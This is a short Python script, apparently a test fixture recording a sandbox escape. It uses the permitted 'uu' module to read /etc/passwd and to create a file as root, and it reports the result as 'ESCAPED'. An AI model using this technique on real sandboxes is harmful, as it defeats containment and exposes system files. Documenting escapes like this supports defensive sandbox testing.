# ruff: noqa - a hostile script, kept as written
# threat: 1 reach the operating system
# technique: uu.encode(path, sink) reads any file into a script object; uu.decode(source, path) creates (or truncates) any file as root
# why: functions of an allowed module open the paths a script gives them; RLIMIT_FSIZE=0 stops the bytes, not the creation
# escapes: runner a75ee23, wide allowlist
# requires: uu
import uu


class Sink:
    def __init__(self):
        self.parts = []

    def write(self, data):
        self.parts.append(data)


class Lines:
    def __init__(self, data):
        self.lines = data.splitlines(True)

    def readline(self):
        return self.lines.pop(0) if self.lines else b""


encoded = Sink()
uu.encode("/etc/passwd", encoded)
plain = Sink()
uu.decode(Lines(b"".join(encoded.parts)), plain)
first = b"".join(plain.parts).decode().splitlines()[0]
created = "no file created"
try:  # an empty payload: the file is created (as root) and nothing is written to it
    uu.decode(Lines(b"begin 600 x\n`\nend\n"), "@MARKER_DIR@/uu-created")
    created = "@MARKER_DIR@/uu-created created"
except Exception as exc:
    created = "no file created (%s)" % exc
result = "ESCAPED /etc/passwd read: %r; %s" % (first, created)
